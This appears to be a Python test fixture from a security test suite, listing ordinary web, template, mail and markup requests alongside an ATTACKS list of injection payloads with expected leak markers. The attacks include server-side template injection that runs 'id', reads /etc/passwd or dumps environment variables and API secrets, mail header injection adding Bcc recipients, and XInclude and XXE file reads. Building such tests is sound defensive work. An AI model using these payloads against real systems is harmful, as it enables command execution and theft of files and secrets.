"""Templates, mails, pages and markup."""

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.sixth import (
    ARABIC,
    EMOJI,
    ESSAY,
    FORMULA,
    HTMLISH,
    IRISH,
    JSON_TEXT,
    MARKDOWN,
    PATHISH,
    PYTHONISH,
    QUOTED,
    REVIEW,
    SHELLISH,
    SQL_NOTE,
    TEMPLATISH,
    balancer,
    bus,
    http,
    rest,
)

ID = "uid="
SECRET = "letters-secret-3443"


def _invoice(title: str, to: str = "Ann") -> dict[str, object]:
    return http("GET", "/invoice", query={"title": title, "to": to})


def _list(title: str, *rows: str) -> dict[str, object]:
    return http("POST", "/list", {"title": title, "rows": rows}, headers={"content-type": "application/json"})


def _card(footer: str, name: str = IRISH) -> dict[str, object]:
    return rest("POST", "/card", {"footer": footer, "name": name})


def _remind(template: str, customer: object = IRISH) -> dict[str, object]:
    return bus("Reminder", {"template": template, "customer": customer, "total": 7})


def _lost(path: str) -> dict[str, object]:
    return balancer("GET", "/404", **{"from": path})


def _contact(
    subject: str, text: str = "x", sender: str = "ann@example.org", **more: str
) -> dict[str, object]:
    return http("POST", "/contact", {"subject": subject, "text": text, "email": sender, **more})


REQUESTS = {
    "web": [
        _invoice("Invoice #7 -- O'Brien & co (50% off)", TEMPLATISH),
        _invoice("{ draft } ${sum} #1", "{{ 7*7 }}"),
        _list("{{ config.items() }}", HTMLISH, SQL_NOTE, "{% import os %}"),
        _list(ARABIC, TEMPLATISH, PYTHONISH),
    ],
    "router": [
        rest("GET", "/hello/O%27Brien", ids={"name": "O%27Brien"}),
        rest("GET", "/hello/%24%7B7*7%7D", ids={"name": "x"}),
        _card("Tel. +49 30 / 123; it's <b>open</b> 9-5 # daily", "${7*7}"),
        _card("5 % off for {you} & $me", "<%! import os %>"),
    ],
    "reminder": [
        _remind(
            "Dear {{ customer|title }}, you owe {{ '%.2f'|format(total) }} €{% if total > 5 %}!{% endif %}"
        ),
        _remind("{# note #}It's {{ total * 2 }}; {% set x = customer.split(' ') %}{{ x|join('-') }}"),
        _remind("No tags: SELECT, $(id), ${x}, %s", "{{ ''.__class__ }}"),
    ],
    "reminder_sandboxed": [
        _remind("{{ customer.__class__.__mro__ }} {{ total }}"),
        _remind("{{ ''.join(customer|reverse) }}{% for i in range(3) %}{{ loop.index }}{% endfor %}", EMOJI),
        _remind("{% broken"),
        _remind("{{ customer.name }} {{ customer['o'] }}", {"name": SHELLISH, "o": "x'y"}),
    ],
    "error_page": [
        _lost("/shop/O'Brien (1).html"),
        _lost("/a%20b/?q={x}&y=$z%3B#frag"),
        _lost("/100% tea/../x; select"),
    ],
    "flyer": [
        {"slogan": "Tea &amp; mugs: 5 for $4, it's on!", "shop": TEMPLATISH},
        {"slogan": "50% off #1 {today}", "shop": "${shop}"},
    ],
    "flyer_values": [
        {"slogan": "${open('/etc/passwd').read()}", "shops": [IRISH, "<?python x?>"]},
        {"slogan": HTMLISH, "shops": [EMOJI, TEMPLATISH]},
    ],
    "contact_raw": [
        _contact("Re: Bcc: and Cc: -- who gets it?", SHELLISH),
        _contact(
            "It's 100% broken; {x}", "Bcc: eve@example.net\r\n\r\n.\r\nQUIT", "o'brien+shop@example.org"
        ),
        _contact(JSON_TEXT, MARKDOWN),
    ],
    "contact": [
        _contact("x\r\nBcc: eve@example.net"),
        _contact(IRISH + " <x>", ESSAY, html=HTMLISH),
        _contact(EMOJI, PYTHONISH, "ann@example.org"),
    ],
    "article": [
        {"text": MARKDOWN},
        {"text": f"{HTMLISH}\n\n| `a` | {QUOTED} |\n|---|---|\n| 1 | 2 |\n\n```python\n{PYTHONISH}```\n"},
        {"text": "[x](javascript:alert(1)) <img src=x onerror=y> " + REVIEW},
    ],
    "scrape": [
        {"page": f"<html><body><p id='a'>O'Brien</p><a href='../x?y=1;z'>x</a>{HTMLISH}</body></html>"},
        {"page": "<p id=1><p id='2\">' or 1=1 <b>unclosed", "tag": "p"},
    ],
    "export": [
        {"rows": [["name", "note"], [IRISH, FORMULA], [QUOTED, "-5"], ["@x", SQL_NOTE]]},
        {"rows": [[PATHISH, JSON_TEXT], [ESSAY, HTMLISH]]},
    ],
    "manual": [
        {"body": "<m><p>Part A: it's &lt;xi:include href='file:///etc/passwd'/&gt;</p></m>"},
        {"body": f"<m xmlns:xi='http://www.w3.org/2001/XInclude'><p><![CDATA[{SHELLISH}]]></p></m>"},
    ],
    "drawing": [
        {
            "svg": "<svg xmlns='http://www.w3.org/2000/svg' width='9'><text>O'Brien; --</text><script>1</script></svg>"
        },
        {
            "svg": '<!DOCTYPE svg [<!ENTITY ns "http://www.w3.org/2000/svg">]><svg width="7"><text>{{7*7}}</text></svg>',
            "entities": False,
        },
    ],
}
POPEN = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
ATTACKS = [
    Attack("template", "web", _invoice(POPEN), ID),
    Attack("template", "web", _invoice("{{ 7331*7331 }}"), "53743561"),
    Attack(
        "template",
        "web",
        _invoice("{{ to.__class__.__mro__[-1].__subclasses__()|length > 9 }}-yes"),
        "True-yes",
    ),
    Attack(
        "template",
        "web",
        _invoice(
            "{% with o = lipsum.__globals__.__builtins__.open %}{{ o('/etc/passwd').read() }}{% endwith %}"
        ),
        "root:x:0",
    ),
    Attack(
        "template",
        "reminder",
        _remind(
            "{{ (customer|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fmro\\x5f\\x5f')|last|attr('\\x5f\\x5fsubclasses\\x5f\\x5f'))()|map(attribute='__name__')|join(',') }}"
        ),
        "_wrap_close",
    ),
    Attack(
        "template",
        "reminder",
        _remind("{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}"),
        ID,
    ),
    Attack(
        "template",
        "reminder",
        _remind("{{ namespace['__init__']['__globals__']['os']['environ'] }}"),
        "AWS_SECRET",
    ),
    Attack(
        "template",
        "reminder",
        _remind("{% set g = joiner.__init__.__globals__ %}{{ g.__builtins__.__import__('app').API_SECRET }}"),
        SECRET,
    ),
    Attack("template", "router", _card("${__import__('os').popen('id').read()}"), ID),
    Attack("template", "router", _card("<% import subprocess as s %>${s.getoutput('id')}"), ID),
    Attack("template", "router", _card("% for l in open('/etc/passwd'):\n${l}\n% endfor\n"), "root:x:0"),
    Attack("template", "router", _card("${self.template.module.__loader__.__class__}-${31*1009}"), "31279"),
    Attack("template", "error_page", _lost("{{__import__('os').popen('id').read()}}"), ID),
    Attack("template", "error_page", _lost("\n% import os\n{{os.listdir('/etc')}}\n"), "passwd"),
    Attack("template", "error_page", _lost("{{!open('/etc/passwd').read()}}"), "root:x:0"),
    Attack("template", "error_page", _lost("{{!__import__('sys').modules['app'].API_SECRET}}"), SECRET),
    Attack("template", "flyer", {"slogan": "${open('/etc/passwd').read()}", "shop": "x"}, "root:x:0"),
    Attack(
        "template",
        "flyer",
        {"slogan": "<?python import os; x = os.popen('id').read() ?>${x}", "shop": "x"},
        ID,
    ),
    Attack(
        "template",
        "flyer",
        {"slogan": "<u tal:content=\"python: __import__('app').API_SECRET\"/>", "shop": "x"},
        SECRET,
    ),
    Attack("header", "contact_raw", _contact("x\r\nBcc: eve@example.net"), '\\"eve@example.net\\"]'),
    Attack(
        "header",
        "contact_raw",
        _contact("x", "x", "a@example.org\nCc: eve@example.net"),
        '\\"eve@example.net\\"]',
    ),
    Attack(
        "header",
        "contact_raw",
        _contact("x\r\n To: y\r\nBCC: eve@example.net\r\n\r\nnew body"),
        '\\"eve@example.net\\"]',
    ),
    Attack(
        "XInclude",
        "manual",
        {
            "body": "<m xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include parse='text' href='file:///etc/passwd'/></m>"
        },
        "root:x:0",
    ),
    Attack(
        "XInclude",
        "manual",
        {
            "body": '<m><i:include xmlns:i="http://www.w3.org/2001/XInclude" href="/no/such/part.xml"><i:fallback><i:include href="/etc/hosts" parse="text"/></i:fallback></i:include></m>'
        },
        "localhost",
    ),
    Attack(
        "XXE",
        "drawing",
        {
            "svg": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg width="1"><text>&x;</text></svg>'
        },
        "root:x:0",
    ),
]
